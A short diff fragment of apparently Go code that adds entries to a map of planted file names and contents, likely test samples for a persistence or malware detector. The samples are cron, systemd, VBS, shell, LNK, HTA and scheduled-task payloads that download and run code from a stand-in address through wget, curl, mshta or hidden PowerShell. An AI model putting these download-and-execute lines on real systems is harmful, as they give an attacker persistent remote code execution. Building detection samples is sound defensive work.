@@ -97,6 +97,8 @@ var planting = map[string]string{
 	"root":          "SHELL=/bin/sh\n*/5 * * * * wget -q -O /tmp/.k http://203.0.113.9/k; sh /tmp/.k\n",
 	"jobs":          "@reboot echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvaw== | base64 -d | bash\n",
 	"x.service":     "[Unit]\nAfter=network.target\n[Service]\nExecStart=/bin/sh -c \"wget -qO- http://203.0.113.9/k | sh\"\n",
+	"invoice.vbs":   "Set s=CreateObject(\"WScript.Shell\")\r\ns.Run \"powershell -w hidden -enc SQBFAFgA\",0\r\n",
+	"up.sh":         "#!/bin/sh\ncd /tmp; curl -o /tmp/m http://203.0.113.9/m\nchmod 755 /tmp/m\nnohup /tmp/m &\n",
 	"a.lnk":         shortcut + strings.Repeat("\x00", 60) + inUTF16(`..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -w hidden -enc `+strings.Repeat("SQBFAFgA", 8)),
 	"a.hta":         `<script>new ActiveXObject("WScript.Shell").Run("powershell -nop -w 1 -e ` + strings.Repeat("SQBFAFgA", 8) + `",0);</script>`,
 	"task.xml":      inUTF16("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task><Exec><Command>mshta.exe</Command><Arguments>mshta http://203.0.113.9/a.hta</Arguments></Exec></Task>"),
